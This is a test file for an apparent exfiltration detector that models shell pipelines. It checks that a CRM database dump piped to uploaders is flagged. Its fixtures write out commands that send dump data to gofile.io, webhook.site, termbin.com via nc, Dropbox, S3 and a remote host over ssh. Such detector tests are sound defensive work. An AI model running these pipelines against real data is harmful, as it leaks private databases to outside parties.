import { describe, expect, it } from 'vitest';
import { Desk } from '../../support/desk.ts';
import { MAC_PROGRAMS } from '../../support/mac-programs.ts';
import { PROGRAMS, type Proc, type Program } from '../../support/story.ts';

const PIPED = {
  stage: 'upload',
  severity: 'high',
  confidence: 'high',
  link: 'pipe',
  evidence: 'piped-to-uploader',
  files: [],
};

/** A member of a pipeline: program, line, pipe of its input, pipe of its output. */
type Member = readonly [Program, string, number | undefined, number | undefined];

const DUMP: Member = [MAC_PROGRAMS.pgDump, 'pg_dump crm', undefined, 31];
const GZIP: Member = [PROGRAMS.gzip, 'gzip -9', 31, 32];
const SEND: Member = [PROGRAMS.rclone, 'rclone rcat dropbox:in/crm.gz', 32, undefined];

/** The shell makes all members, then executes them in the given order; gives their processes in that of the line. */
function pipeline(
  desk: Desk,
  members: readonly Member[],
  order = members.map((_, index) => index),
): Proc[] {
  const children = members.map(() => desk.story.fork(desk.shell));
  const procs = [...children];
  for (const index of order) {
    const [program, line, stdin, stdout] = members[index]!;
    const ends = {
      ...(stdin === undefined ? {} : { stdin }),
      ...(stdout === undefined ? {} : { stdout }),
    };
    procs[index] = desk.story.exec(children[index]!, desk.program(program, line, ends));
  }
  return procs;
}

describe('a dump piped to an uploader', () => {
  it.each([[[0, 1, 2]], [[0, 2, 1]], [[1, 0, 2]], [[1, 2, 0]], [[2, 0, 1]], [[2, 1, 0]]])(
    'is an upload without files when the members start in the order %j',
    (order) => {
      const desk = new Desk();
      pipeline(desk, [DUMP, GZIP, SEND], order);
      expect(desk.findings()).toMatchObject([
        {
          ...PIPED,
          tool: 'pg_dump',
          service: 'dropbox',
          serviceTier: 'storage',
          destination: 'dropbox:in/crm.gz',
        },
      ]);
    },
  );

  it.each<{ title: string; member: Member; service: string | null; destination: string | null }>([
    {
      title: 'curl -T -',
      member: [PROGRAMS.curl, 'curl -T - https://gofile.io/u', 31, undefined],
      service: 'gofile',
      destination: 'gofile.io',
    },
    {
      title: 'curl --data-binary @-',
      member: [PROGRAMS.curl, 'curl --data-binary @- https://webhook.site/1', 31, undefined],
      service: 'webhook-site',
      destination: 'webhook.site',
    },
    {
      title: 'ssh',
      member: [{ path: '/usr/bin/ssh' }, 'ssh lena@files.example.org dd of=crm', 31, undefined],
      service: null,
      destination: 'files.example.org',
    },
    {
      title: 'HTTPie',
      member: [{ path: '/opt/homebrew/bin/http' }, 'http POST https://gofile.io/u', 31, undefined],
      service: 'gofile',
      destination: 'gofile.io',
    },
    {
      title: 'curl -F file=@-',
      member: [PROGRAMS.curl, 'curl -F file=@- https://0x0.st', 31, undefined],
      service: '0x0-st',
      destination: '0x0.st',
    },
    {
      title: 'aws s3 cp -',
      member: [PROGRAMS.aws, 'aws s3 cp - s3://heap/crm', 31, undefined],
      service: 's3',
      destination: 's3://heap/crm',
    },
    {
      title: 'gsutil cp -',
      member: [MAC_PROGRAMS.gsutil, 'gsutil cp - gs://heap/crm', 31, undefined],
      service: 'gcs',
      destination: 'gs://heap/crm',
    },
    {
      title: 'nc',
      member: [
        { path: '/usr/bin/nc', signingId: 'com.apple.netcat', platform: true },
        'nc termbin.com 9999',
        31,
        undefined,
      ],
      service: 'pastebin',
      destination: 'termbin.com',
    },
  ])('goes where $title sends standard input', ({ member, service, destination }) => {
    const desk = new Desk();
    pipeline(desk, [DUMP, member]);
    expect(desk.findings()).toMatchObject([
      {
        stage: 'upload',
        link: 'pipe',
        evidence: 'piped-to-uploader',
        service,
        destination,
        files: [],
      },
    ]);
  });

  it('keeps being one behind tee', () => {
    const desk = new Desk();
    const [, tee] = pipeline(desk, [
      DUMP,
      [MAC_PROGRAMS.tee, 'tee Desktop/copy.sql', 31, 33],
      [PROGRAMS.aws, 'aws s3 cp - s3://b/k', 33, undefined],
    ]);
    desk.story.write(tee!, desk.at('Desktop/copy.sql'));
    expect(desk.findings()).toMatchObject([PIPED]);
  });

  it('leaves a file of tee in the middle that has lineage', () => {
    const desk = new Desk();
    const [, tee] = pipeline(desk, [
      DUMP,
      [MAC_PROGRAMS.tee, 'tee Desktop/copy.sql', 31, 34],
      [PROGRAMS.cat, 'wc -l', 34, undefined],
    ]);
    desk.story.write(tee!, desk.at('Desktop/copy.sql'));
    expect(desk.findings()).toMatchObject([
      { stage: 'export', link: 'lineage', files: [desk.at('Desktop/copy.sql')] },
    ]);
  });

  it('is an upload by pipe although the tool has an export of its own', () => {
    const desk = new Desk();
    const [tool] = pipeline(desk, [DUMP, [PROGRAMS.aws, 'aws s3 cp - s3://b/k', 31, undefined]]);
    desk.story.write(tool!, desk.at('Desktop/log.csv'));
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', evidence: 'piped-to-uploader', link: 'pipe' },
    ]);
  });

  it.each<{ title: string; members: readonly Member[] }>([
    {
      title: 'the uploader reads another pipe',
      members: [DUMP, [PROGRAMS.rclone, 'rclone rcat dropbox:x', 99, undefined]],
    },
    {
      title: 'the uploader does not read standard input',
      members: [DUMP, [PROGRAMS.curl, 'curl -T /etc/hosts https://gofile.io', 31, undefined]],
    },
    {
      title: 'the reader only downloads',
      members: [DUMP, [PROGRAMS.curl, 'curl -O https://gofile.io/a', 31, undefined]],
    },
    {
      title: 'the data ends in a pager',
      members: [DUMP, [{ path: '/usr/bin/less', platform: true }, 'less', 31, undefined]],
    },
    {
      title: 'the destination is this Mac',
      members: [DUMP, [PROGRAMS.curl, 'curl -T - http://localhost:8080/', 31, undefined]],
    },
    {
      title: 'the uploader writes into the tool',
      members: [
        [PROGRAMS.curl, 'curl -T - https://gofile.io', undefined, 40],
        [PROGRAMS.psql, 'psql crm', 40, undefined],
      ],
    },
    {
      title: 'the chain is broken in the middle',
      members: [
        DUMP,
        [PROGRAMS.gzip, 'gzip', 31, 50],
        [PROGRAMS.rclone, 'rclone rcat dropbox:x', 51, undefined],
      ],
    },
  ])('is none when $title', ({ members }) => {
    const desk = new Desk();
    pipeline(desk, members);
    expect(desk.findings()).toMatchObject([{ stage: 'tool' }]);
  });
});

describe('a file written behind a pipe', () => {
  it.each([[[0, 1]], [[1, 0]]])('has lineage to the tool, in the order %j', (order) => {
    const desk = new Desk();
    const [, gzip] = pipeline(
      desk,
      [
        [PROGRAMS.psql, 'psql crm', undefined, 61],
        [PROGRAMS.gzip, 'gzip', 61, undefined],
      ],
      order,
    );
    desk.story.write(gzip!, desk.at('Pictures/crm.gz'));
    expect(desk.findings()).toMatchObject([
      { stage: 'export', link: 'lineage', files: [desk.at('Pictures/crm.gz')] },
    ]);
  });

  it('that the shell had made for the last member has lineage too', () => {
    const desk = new Desk();
    const [left, right] = [desk.story.fork(desk.shell), desk.story.fork(desk.shell)];
    desk.story.create(right, desk.at('Desktop/crm.sql.gz'));
    desk.story.exec(left, desk.program(MAC_PROGRAMS.pgDump, 'pg_dump crm', { stdout: 62 }));
    const gzip = desk.story.exec(right, desk.program(PROGRAMS.gzip, 'gzip', { stdin: 62 }));
    desk.story.wait(30).close(gzip, desk.at('Desktop/crm.sql.gz'));
    expect(desk.findings()).toMatchObject([{ stage: 'export', link: 'lineage' }]);
  });

  it('by an unknown program in the middle continues, and so does the pipe after it', () => {
    const desk = new Desk();
    const [, , last] = pipeline(desk, [
      [PROGRAMS.psql, 'psql crm', undefined, 63],
      [MAC_PROGRAMS.script, 'month-end --mask', 63, 64],
      [MAC_PROGRAMS.openssl, 'openssl enc -aes-256-cbc', 64, undefined],
    ]);
    desk.story.write(last!, desk.at('Desktop/x.enc'));
    expect(desk.findings()).toMatchObject([{ stage: 'export', link: 'lineage' }]);
  });

  it('by a program with a pipe of its own has none', () => {
    const desk = new Desk();
    desk.type(PROGRAMS.psql, 'psql crm', { stdout: 65 });
    const other = desk.type(PROGRAMS.gzip, 'gzip', { stdin: 66 });
    desk.story.write(other, desk.at('Desktop/x.gz'));
    expect(desk.findings()).toMatchObject([{ stage: 'tool' }]);
  });

  it('by whoever feeds the tool has none', () => {
    const desk = new Desk();
    const [feeder] = pipeline(desk, [
      [PROGRAMS.cat, 'cat import.sql', undefined, 67],
      [PROGRAMS.psql, 'psql crm', 67, undefined],
    ]);
    desk.story.write(feeder!, desk.at('Desktop/x.csv'));
    expect(desk.findings()).toMatchObject([{ stage: 'tool' }]);
  });
});

describe('an uploader that descends from the tool', () => {
  it('is piped-to-uploader, also when it names the file', () => {
    const desk = new Desk();
    const psql = desk.type(PROGRAMS.psql, 'psql crm');
    desk.story.write(psql, desk.at('Desktop/a.csv'));
    const shell = desk.story.run(psql, desk.program(PROGRAMS.zsh, 'sh -c curl'));
    desk.story.run(
      shell,
      desk.program(PROGRAMS.curl, 'curl -T Desktop/a.csv https://wetransfer.com/x'),
    );
    const [finding] = desk.findings();
    expect(finding).toMatchObject({
      stage: 'upload',
      evidence: 'piped-to-uploader',
      severity: 'critical',
      service: 'wetransfer',
    });
    expect(['lineage', 'pipe']).toContain(finding?.link);
  });

  it('is none when it starts beside the tool in the same shell', () => {
    const desk = new Desk();
    desk.type(PROGRAMS.psql, 'psql crm');
    desk.type(PROGRAMS.curl, 'curl -T Desktop/a.csv https://wetransfer.com/x');
    expect(desk.findings()).toMatchObject([{ stage: 'tool' }]);
  });

  it('is none when it only downloads', () => {
    const desk = new Desk();
    const psql = desk.type(PROGRAMS.psql, 'psql crm');
    desk.story.run(psql, desk.program(PROGRAMS.curl, 'curl -sO https://wetransfer.com/x'));
    expect(desk.findings()).toMatchObject([{ stage: 'tool' }]);
  });
});

describe('an export that is read into a pipe', () => {
  it('and sent is an upload of that export', () => {
    const desk = new Desk();
    desk.dump('Desktop/ledger.sql');
    pipeline(desk, [
      [PROGRAMS.gzip, 'gzip -c Desktop/ledger.sql', undefined, 81],
      [PROGRAMS.aws, 'aws s3 cp - s3://b/k', 81, undefined],
    ]);
    expect(desk.findings()).toMatchObject([
      {
        stage: 'upload',
        severity: 'high',
        link: 'lineage',
        evidence: 'piped-to-uploader',
        files: [desk.at('Desktop/ledger.sql')],
      },
    ]);
  });

  it('is none when another file is read into it', () => {
    const desk = new Desk();
    desk.dump('Desktop/ledger.sql');
    pipeline(desk, [
      [PROGRAMS.gzip, 'gzip -c Desktop/ledger.sql.old', undefined, 82],
      [PROGRAMS.aws, 'aws s3 cp - s3://b/k', 82, undefined],
    ]);
    expect(desk.findings()).toMatchObject([{ stage: 'export' }]);
  });
});

describe('the id of a pipe', () => {
  const UPLOAD = 'aws s3 cp - s3://mine/pics.tar';

  /** A pipeline of a dump that has ended, then one of something else over the same id. */
  function reused(seconds: number): Desk {
    const desk = new Desk();
    const dump = desk.type(MAC_PROGRAMS.pgDump, 'pg_dump crm', { stdout: 3 });
    const reader = desk.type(PROGRAMS.cat, 'cat', { stdin: 3 });
    desk.story.exit(dump).exit(reader).wait(seconds);
    desk.type(PROGRAMS.cat, 'cat Pictures/team.jpg', { stdout: 3 });
    desk.type(PROGRAMS.aws, UPLOAD, { stdin: 3 });
    return desk;
  }

  it.each([30, 9 * 3600])(
    'stands for another pipe %i s after all its processes ended',
    (seconds) => {
      expect(reused(seconds).findings()).toMatchObject([{ stage: 'tool', link: null }]);
    },
  );

  it('stands for another pipe, whose files are not the chain’s either', () => {
    const desk = new Desk();
    const psql = desk.type(PROGRAMS.psql, 'psql crm', { stdout: 3 });
    const reader = desk.type(PROGRAMS.cat, 'cat', { stdin: 3 });
    desk.story
      .exit(psql)
      .exit(reader)
      .wait(9 * 3600);
    desk.type(PROGRAMS.cat, 'cat notes.txt', { stdout: 3 });
    const tee = desk.type(MAC_PROGRAMS.tee, 'tee notes.csv', { stdin: 3 });
    desk.story.write(tee, desk.at('notes.csv'));
    expect(desk.findings()).toMatchObject([{ stage: 'tool', files: [] }]);
  });

  it('is still the same while one of its processes runs', () => {
    const desk = new Desk();
    desk.type(MAC_PROGRAMS.pgDump, 'pg_dump crm', { stdout: 3 });
    desk.story.wait(9 * 3600);
    desk.type(PROGRAMS.aws, UPLOAD, { stdin: 3 });
    expect(desk.findings()).toMatchObject([PIPED]);
  });

  it('is still the same for the next program of a subshell that waited with it', () => {
    const desk = new Desk();
    const subshell = desk.story.fork(desk.shell);
    const psql = desk.type(PROGRAMS.psql, 'psql -c x', { stdout: 3 });
    const sleep = desk.story.run(
      subshell,
      desk.program({ path: '/bin/sleep' }, 'sleep 60', { stdin: 3 }),
    );
    desk.story.exit(psql).wait(60).exit(sleep);
    const child = desk.story.fork(subshell);
    desk.story.create(child, desk.at('Music/late.csv'));
    const cat = desk.story.exec(child, desk.program(PROGRAMS.cat, 'cat', { stdin: 3 }));
    desk.story.close(cat, desk.at('Music/late.csv'));
    expect(desk.findings()).toMatchObject([
      { stage: 'export', link: 'lineage', files: [desk.at('Music/late.csv')] },
    ]);
  });

  it('is still the same for a reader that starts just after the writer ended', () => {
    const desk = new Desk();
    const dump = desk.type(MAC_PROGRAMS.pgDump, 'pg_dump crm', { stdout: 3 });
    desk.story.exit(dump).wait(1);
    desk.type(PROGRAMS.aws, UPLOAD, { stdin: 3 });
    expect(desk.findings()).toMatchObject([PIPED]);
  });
});

describe('behind a pipe', () => {
  it('a child that the reader forked writes the chain’s data', () => {
    const desk = new Desk();
    desk.type(PROGRAMS.psql, 'psql crm', { stdout: 3 });
    const bash = desk.type(MAC_PROGRAMS.bash, 'bash load.sh', { stdin: 3 });
    desk.story.write(desk.story.fork(bash), desk.at('load.csv'));
    expect(desk.findings()).toMatchObject([{ stage: 'export', link: 'lineage' }]);
  });

  it('a program that the reader starts without the pipe does not', () => {
    const desk = new Desk();
    desk.type(PROGRAMS.psql, 'psql crm', { stdout: 3 });
    const bash = desk.type(MAC_PROGRAMS.bash, 'bash load.sh', { stdin: 3 });
    const other = desk.story.run(bash, desk.program(MAC_PROGRAMS.script, 'script'));
    desk.story.write(other, desk.at('load.csv'));
    expect(desk.findings()).toMatchObject([{ stage: 'tool' }]);
  });

  it('a subshell that made the output and closes it last belongs to it', () => {
    const desk = new Desk();
    const subshell = desk.story.fork(desk.shell);
    desk.story.create(subshell, desk.at('Desktop/crm.gz'));
    desk.story.run(subshell, desk.program(MAC_PROGRAMS.pgDump, 'pg_dump crm', { stdout: 3 }));
    const gzip = desk.story.run(subshell, desk.program(PROGRAMS.gzip, 'gzip', { stdin: 3 }));
    desk.story.wait(1).exit(gzip).close(subshell, desk.at('Desktop/crm.gz'));
    expect(desk.findings()).toMatchObject([{ stage: 'export', link: 'lineage' }]);
  });
});
